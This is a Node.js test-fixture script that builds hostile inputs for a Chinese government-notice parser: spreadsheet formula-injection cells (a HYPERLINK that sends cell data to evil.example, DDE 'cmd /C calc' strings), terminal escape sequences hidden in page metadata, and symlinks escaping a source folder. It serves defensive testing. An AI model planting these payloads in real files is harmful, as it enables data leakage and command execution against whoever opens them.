#!/usr/bin/env node
// Crafted hostile inputs for the tests of issue 12 (test/hostile-*.test.ts), made at test time so
// no large blob is committed. Each generator returns the bytes (or writes a tree); run as a
// script, every input is written to a folder for trying them by hand:
//
//   node scripts/make-hostile.mjs /tmp/hostile && kexie parse /tmp/hostile/csv-injection.txt --to csv
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

/** A notice whose task table holds cells a spreadsheet would run as formulas. */
export function csvInjectionNotice() {
  return [
    "=HYPERLINK(\"http://evil.example/\",\"关于印发重点任务分工的通知\")",
    "",
    "各部门：",
    "",
    "现将重点任务分工印发给你们。",
    "",
    "一、@工作要求",
    "",
    "-各部门要按时完成。",
    "",
    "二、分工",
    "",
    "序号\t工作任务\t牵头单位\t完成时限",
    "1\t=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")\t@SUM(1+1)*cmd\t年底前",
    "2\t+1+cmd|' /C calc'!A0\t-2+3\t6月底",
    "",
    "=cmd|' /C calc'!A0",
    "2024年1月2日",
    "",
  ].join("\n");
}

/** The formula-like cells csvInjectionNotice() puts in its task table. */
export const CSV_INJECTION_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3"];

/** Escape sequences that clear the screen, recolour and retitle a terminal, plus a C1 CSI. */
export const ESC_SEQUENCES = "\x1b[2J\x1b[31m\x1b]0;pwned\x07\x9b1m";

/**
 * A government page whose info-disclosure metadata carries terminal escapes: its 成文日期
 * disagrees with the signature, so the metadata value is quoted in a warning.
 */
export function escapeMetadataPage() {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>通知</title></head><body>
<table class="meta"><tr><td>索引号：</td><td>0001-2019-00001</td><td>发文机关：</td><td>某某市科学技术协会</td></tr>
<tr><td>成文日期：</td><td>2019年5月4日${ESC_SEQUENCES}</td><td>发文字号：</td><td>某科协〔2019〕1号</td></tr></table>
<div class="article"><h1>关于开展科普活动的通知</h1>
<p>各县区科协：</p>
<p>现将有关事项通知如下。</p>
<p>一、活动时间</p><p>全年。</p>
<p style="text-align:right">某某市科学技术协会</p>
<p style="text-align:right">2019年6月1日</p></div></body></html>
`;
}

/** A short real notice, for trees whose point is their names and links. */
export function plainNotice(title = "关于做好年度工作的通知") {
  return `${title}\n\n各部门：\n\n一、总体要求\n\n按时完成。\n\n某某局\n2024年1月2日\n`;
}

/**
 * A source tree with links out of it and names that merely start with dots:
 *   outside/secret.txt, outside/dir/inner.txt     the files a link must not reach
 *   src/a.txt                                      a notice
 *   src/link.txt → ../outside/secret.txt           relative link out of src
 *   src/abs.txt → <abs>/outside/secret.txt         absolute link out of src
 *   src/linked-dir → <abs>/outside/dir             a linked folder out of src
 *   src/inside-link.txt → a.txt                    a link that stays inside: followed
 *   src/..evil..txt, src/...three.txt              dots, but not dot-files: converted
 *   src/.hidden.txt, src/.git/config.txt           dot-files: skipped without a word
 * Returns { src, outside }.
 */
export function symlinkTree(root) {
  const src = path.join(root, "src");
  const outside = path.join(root, "outside");
  mkdirSync(path.join(outside, "dir"), { recursive: true });
  mkdirSync(path.join(src, ".git"), { recursive: true });
  writeFileSync(path.join(outside, "secret.txt"), plainNotice("关于绝密事项的通知"));
  writeFileSync(path.join(outside, "dir", "inner.txt"), plainNotice("关于外部目录的通知"));
  writeFileSync(path.join(src, "a.txt"), plainNotice());
  symlinkSync("../outside/secret.txt", path.join(src, "link.txt"));
  symlinkSync(path.join(outside, "secret.txt"), path.join(src, "abs.txt"));
  symlinkSync(path.join(outside, "dir"), path.join(src, "linked-dir"), "dir");
  symlinkSync("a.txt", path.join(src, "inside-link.txt"));
  writeFileSync(path.join(src, "..evil..txt"), plainNotice("关于点号文件名的通知"));
  writeFileSync(path.join(src, "...three.txt"), plainNotice("关于三个点的通知"));
  writeFileSync(path.join(src, ".hidden.txt"), plainNotice("关于隐藏文件的通知"));
  writeFileSync(path.join(src, ".git", "config.txt"), plainNotice("关于版本库的通知"));
  return { src, outside };
}

/** Write every crafted input into `dir`. */
export function writeAll(dir) {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, "csv-injection.txt"), csvInjectionNotice());
  writeFileSync(path.join(dir, "escape-metadata.html"), escapeMetadataPage());
  symlinkTree(path.join(dir, "symlinks"));
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const dir = process.argv[2];
  if (!dir) {
    process.stderr.write("usage: node scripts/make-hostile.mjs OUTDIR\n");
    process.exit(2);
  }
  writeAll(dir);
}
